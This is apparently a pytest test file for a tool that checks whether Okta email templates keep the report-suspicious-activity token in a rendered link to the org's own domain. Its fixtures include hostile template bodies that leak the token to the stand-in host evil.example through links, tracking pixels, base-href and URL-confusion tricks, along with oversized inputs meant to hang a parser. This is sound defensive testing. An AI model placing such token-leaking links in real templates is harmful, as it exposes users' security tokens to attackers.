"""SAR-03 judges the link a user can click: the token in the href of a link to the org itself,
in a block that renders.

Okta's own markup for its default button: none is published. Searched okta/okta-developer-docs
(``packages/@okta/vuepress-site/docs/guides/custom-email/main/index.md`` lists
``${request.reportSuspiciousActivityToken}`` only as a variable, "Available in Authenticator
Enrolled (with Report Suspicious Activity button)"), Okta's help page
(https://help.okta.com/oie/en-us/content/topics/security/suspicious-activity-reporting.htm, which
shows the button as a screenshot only) and public code for ``reportSuspiciousActivityToken``:
no default template body. So the forms judged here are the ones this project writes (its
``email-templates/``, the emulator's seeds and ``import --fix``'s block:
``${baseURL}/login/report-suspicious-activity?token=${request.reportSuspiciousActivityToken}``),
the token alone as an href, and the org's own URL.
"""

from __future__ import annotations

import time
from importlib import resources
from pathlib import Path

import pytest
import yaml

from sarguard.adopt.bodies import REPORT_LINK_BLOCK, insert_block
from sarguard.controls.sar03_templates_keep_link import MAX_JUDGED_CHARS, judge_body
from tests.controls.conftest import GOOD_BODY, by_resource, good_state, run

T = "${request.reportSuspiciousActivityToken}"
ORG = "https://acme.okta.com"
LINK = f'<a href="${{baseURL}}/login/report-suspicious-activity?token={T}">Report</a>'
ROOT = Path(__file__).resolve().parents[2]
KEY = "brand/default/template/NewSignOnNotification/customization/fr"


def _bodies_in(node):
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "body" and isinstance(value, str):
                yield value
            else:
                yield from _bodies_in(value)
    elif isinstance(node, list):
        for item in node:
            yield from _bodies_in(item)


def _project_bodies() -> list[tuple[str, str]]:
    out = [(p.name, p.read_text("utf-8")) for p in sorted((ROOT / "email-templates").glob("*.html"))]
    seeds = resources.files("sarguard.emulator") / "seeds"
    for seed in sorted(seeds.iterdir(), key=lambda p: p.name):
        if seed.name.endswith(".yaml"):
            for i, body in enumerate(_bodies_in(yaml.safe_load(seed.read_text("utf-8")))):
                if "reportSuspiciousActivityToken" in body:
                    out.append((f"{seed.name}#{i}", body))
    out.append(("import --fix block", "\n".join(REPORT_LINK_BLOCK)))
    out.append(("tests' GOOD_BODY (the token alone as href)", GOOD_BODY))
    return out


PROJECT_BODIES = _project_bodies()


def test_the_project_bodies_are_all_found():
    names = [name for name, _ in PROJECT_BODIES]
    assert len([n for n in names if n.endswith(".html")]) == 6
    assert {n.split("#")[0] for n in names if "#" in n} == {"demo.yaml", "in-sync.yaml"}


@pytest.mark.parametrize("org", [None, ORG])
@pytest.mark.parametrize(("name", "body"), PROJECT_BODIES, ids=lambda v: v if len(v) < 60 else "")
def test_the_projects_own_templates_seeds_and_fix_block_pass(name, body, org):
    status, why = judge_body(body, org)
    assert status == "pass", (name, why)


def test_the_fix_block_repairs_a_body_that_fails_for_each_new_reason():
    for broken in (f'<a href="https://evil.example/?t={T}">x</a>',  # still fails: the leak stays
                   f"#if(false){LINK}#end", f"<p>{T}</p>"):
        fixed = insert_block(broken, REPORT_LINK_BLOCK, lambda b: judge_body(b)[0] == "pass")
        if "evil.example" in broken:
            assert fixed is None  # adding a good link cannot undo a token handed elsewhere
        else:
            assert fixed is not None and judge_body(fixed)[0] == "pass"


# ---- the two shapes that passed before, next to the ones that must still pass ----------------

@pytest.mark.parametrize(("body", "org", "phrase"), [
    (f'<a href="https://evil.example/?t={T}">Report</a>', ORG,
     "hands ${request.reportSuspiciousActivityToken} to another site (evil.example)"),
    (f'<a href="https://evil.example/?t={T}">Report</a>', None, "to evil.example, which sarguard "
                                                                "cannot confirm is the org"),
    (f"#if(false){LINK}#end", None, "a Velocity block that never renders: #if(false) is never true"),
    (f"#if(false){LINK}#end", ORG, "never renders"),
])
def test_the_two_shapes_that_passed_now_fail_saying_which(body, org, phrase):
    status, why = judge_body(body, org)
    assert status == "fail" and phrase in why, why


@pytest.mark.parametrize(("body", "org"), [
    (LINK, None),
    (f"<a href='{T}'>Report</a>", None),  # the token alone
    (f'<a href="report?t={T}">Report</a>', None),  # relative: no other origin
    (f'<a href="https://acme.okta.com/login/report-suspicious-activity?token={T}">R</a>', ORG),
    (f'<a href="https://ACME.okta.com./x?t={T}">R</a>', ORG),  # host compared case-insensitively
    (f'<A HREF=${{baseURL}}/x?t={T}>R</A>', None),  # unquoted, upper case
    ('<a href="$baseURL/x?t=$request.reportSuspiciousActivityToken">R</a>', None),  # short forms
    ('<a href="$!{baseURL}/x?t=$!{request.reportSuspiciousActivityToken}">R</a>', None),
    (f'<a href="${{baseURL}}/x?a=1&amp;t={T}">R</a>', None),  # character references decoded
    (f"<area shape=rect href='{T}'>", None),
    (f"<a href='{T}'>R</a><p>your code: {T}</p>", None),  # a mention beside the button is fine
    (f'<a href="${{baseURL}}/go?next=https://elsewhere.example/&t={T}">R</a>', ORG),  # org first
])
def test_links_to_the_org_pass(body, org):
    status, why = judge_body(body, org)
    assert status == "pass", why


# ---- foreign origins and no link at all --------------------------------------------------------

@pytest.mark.parametrize(("body", "phrase"), [
    (f'<a href="http://acme.okta.com/x?t={T}">R</a>', "acme.okta.com (plain http)"),
    (f'<a href="//evil.example/x?t={T}">R</a>', "(evil.example)"),
    (f'<a href="mailto:soc@example.com?body={T}">R</a>', "(a mailto: URL)"),
    (f'<a href="javascript:go(\'{T}\')">R</a>', "(a javascript: URL)"),
    (f'<img src="https://evil.example/pixel.gif?t={T}">{LINK}', "a <img> attribute hands"),
    (f"<p>Open https://evil.example/r?t={T}</p>{LINK}", "the text hands"),
    (f'<base href="https://evil.example/"><a href="r?t={T}">R</a>', "through <base href>"),
    (f'<base href="https://evil.example/"><a href="{T}">R</a>', "through <base href>"),
    (f'<a href="https://acme.okta.com.evil.example/x?t={T}">R</a>', "acme.okta.com.evil.example"),
    (f'<a href="https://acme.okta.com@evil.example/x?t={T}">R</a>', "(evil.example)"),
    (f'{LINK}<a href="https://evil.example/?t={T}">R</a>', "evil.example"),  # one good, one leak
    # Both branches of an unknown condition may render: the leaking one fails the body.
    (f'<a href="#if($x)${{baseURL}}/r?t={T}#{{else}}https://evil.example/?t={T}#end">R</a>',
     "evil.example"),
])
def test_a_token_handed_to_another_origin_fails(body, phrase):
    status, why = judge_body(body, ORG)
    assert status == "fail" and phrase in why, why


@pytest.mark.parametrize(("body", "phrase"), [
    (f'<a href="https://${{org.subDomain}}.okta.com/x?t={T}">R</a>', "computed by Velocity"),
    (f'<a href="${{request.relayState}}?t={T}">R</a>', "computed by Velocity (${request.relayState})"),
    (f"<p>{T}</p>", "outside any link's href (as text)"),
    (f"<a title='{T}'>R</a>", "outside any link's href (in a <a> attribute)"),
    (f'<a href="https://evil.example/">{T}</a>', "outside any link's href (as text)"),
    (f"<a href='{T}'", "outside any link's href"),  # the tag never ends: no link
])
def test_tokens_outside_a_link_to_the_org_fail(body, phrase):
    status, why = judge_body(body, ORG)
    assert status == "fail" and phrase in why, why


def test_an_absolute_url_fails_offline_but_passes_when_the_org_is_known():
    body = f'<a href="https://acme.okta.com/x?t={T}">R</a>'
    assert judge_body(body)[0] == "fail" and "not known to this run" in judge_body(body)[1]
    assert judge_body(body, ORG)[0] == "pass"
    assert judge_body(body, "https://other.okta.com")[0] == "fail"


def test_the_control_takes_the_org_url_from_the_evidence():
    body = f'<a href="https://acme.okta.com/x?t={T}">R</a>'
    state = good_state("live")
    for c in state.brands["default"].templates["NewSignOnNotification"].customizations:
        if c.language == "fr":
            c.body = body
    assert by_resource(run("SAR-03", state))[KEY].status == "fail"
    state.meta["org"] = ORG
    findings = by_resource(run("SAR-03", state))
    assert findings[KEY].status == "pass" and "acme.okta.com" in findings[KEY].message


# ---- dead and live Velocity blocks -------------------------------------------------------------

@pytest.mark.parametrize(("body", "phrase"), [
    (f"#if(!true){LINK}#end", "#if(!true) is never true"),
    (f"#if( false && $user.x ){LINK}#end", "is never true"),
    (f"#{{if}}(false){LINK}#{{end}}", "is never true"),
    (f"#if(true)ok#{{else}}{LINK}#end", "a branch before it always renders"),
    (f"#if(true)ok#elseif($x){LINK}#end", "a branch before it always renders"),
    (f"#if($x)a#elseif(false){LINK}#end", "#elseif(false) is never true"),
    (f"#if(false)#if(true){LINK}#end#end", "#if(false) is never true"),  # nested
    (f"#foreach($i in []){LINK}#end", "loops over an empty list"),
    (f"#macro(reportButton){LINK}#end", "a macro that is never called"),
    (f"#define($button){LINK}#end", "a block that is never used"),
    (f"#literal(){LINK}#end", "shows its content as text"),
    (f"<p>bye</p>#stop {LINK}", "#stop ends the template"),
    (f"#if(true){LINK}", "Velocity cannot parse the body (#if(true) has no #end)"),
    (f"{LINK}#end", "an #end closes no block"),
    (f"#if($x{LINK}#end", "has no complete (…) argument"),
    (f"#else {LINK}", "#else outside any #if"),
])
def test_a_link_in_a_block_that_never_renders_fails(body, phrase):
    status, why = judge_body(body)
    assert status == "fail" and phrase in why, why


@pytest.mark.parametrize("body", [
    f"#if($user.profile.locale == 'fr'){LINK}#else{LINK}#end",
    f"#if(false)old#{{else}}{LINK}#end",
    f"#if(true){LINK}#end",
    f"#if(false || $x){LINK}#end",
    f"#foreach($i in [1]){LINK}#end",
    f"#foreach($i in []) #{{else}}{LINK}#end",
    f"#macro(reportButton){LINK}#end #reportButton()",
    f"#define($button){LINK}#end $button",
    f"#if($x)#stop#end {LINK}",  # a #stop that may not run
    f"\\#if(false) is text {LINK}",  # an escaped directive is text
    f"## #if(false)\n{LINK}",  # a directive in a comment is no directive
    f'#set($s = "#if(false)"){LINK}',  # nor is one inside a string
    f"#1 choice: {LINK} (#hashtag)",  # "#" in plain text
])
def test_a_link_in_a_block_that_may_render_passes(body):
    status, why = judge_body(body)
    assert status == "pass", why


# ---- hostile bodies: bounded, no crash ----------------------------------------------------------

@pytest.mark.parametrize("body", [
    "#if(true)" * 20_000 + LINK + "#end" * 20_000,
    "#if(false)" * 30_000,
    "#end" * 60_000,
    "<a" * 120_000,
    "</" * 120_000 + ">",
    "<a href='" * 25_000,
    "#if(" + "(" * 100_000,
    "#if(" + "!" * 50_000 + "true)x#end",
    "#if(" + "(" * 3_000 + "true" + ")" * 3_000 + ")" + LINK + "#end",
    "".join(f"#macro(m{i})x#end" for i in range(10_000)) + LINK,
    "<!--" * 60_000 + LINK,
    "#a(" * 80_000 + LINK,  # directive-like calls whose argument never closes
    "#set($x = '" * 30_000 + LINK,
    "x" * MAX_JUDGED_CHARS + LINK,
])
def test_hostile_bodies_end_quickly_with_a_verdict(body):
    started = time.perf_counter()
    status, why = judge_body(body)
    assert status in ("pass", "fail") and why
    assert time.perf_counter() - started < 30  # generous: catches a hang, not a slow machine


def test_a_body_beyond_the_judged_size_fails_saying_so():
    status, why = judge_body("x" * MAX_JUDGED_CHARS + LINK)
    assert status == "fail" and "more than sarguard reads for links" in why


@pytest.mark.parametrize(("host", "status"), [("acme.okta.com", "pass"),
                                              ("evil.example", "fail")])
def test_check_stack_knows_the_org_from_the_provider_config(make_project, capsys, host, status):
    """Offline, the org is the stack's okta:orgName + okta:baseUrl: a link hard-coded to that host
    passes SAR-03, one to another host fails (e19: the org's own domain, when it is known)."""
    import json

    from sarguard.cli import main
    from tests.conftest import STACK_HEAD

    body = (f'<html><body><a href="https://{host}/login/report-suspicious-activity?token='
            '${request.reportSuspiciousActivityToken}">Report</a> ${request.browser} '
            "${request.date} ${request.time} ${request.location} ${request.ipAddress}</body></html>")
    project = make_project(STACK_HEAD + f"""\
    brands:
      - id: default
        templates:
          NewSignOnNotification:
            customizations:
              - language: en
                isDefault: true
                subject: New sign-on
                body: '{body}'
""".replace("\n    ", "\n      ").replace("    brands:", "      brands:", 1))
    code = main(["check", "--stack", "test", "--project-dir", str(project), "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    [sar03] = [f for f in report["findings"] if f["control"] == "SAR-03"]
    assert sar03["status"] == status, (code, sar03)
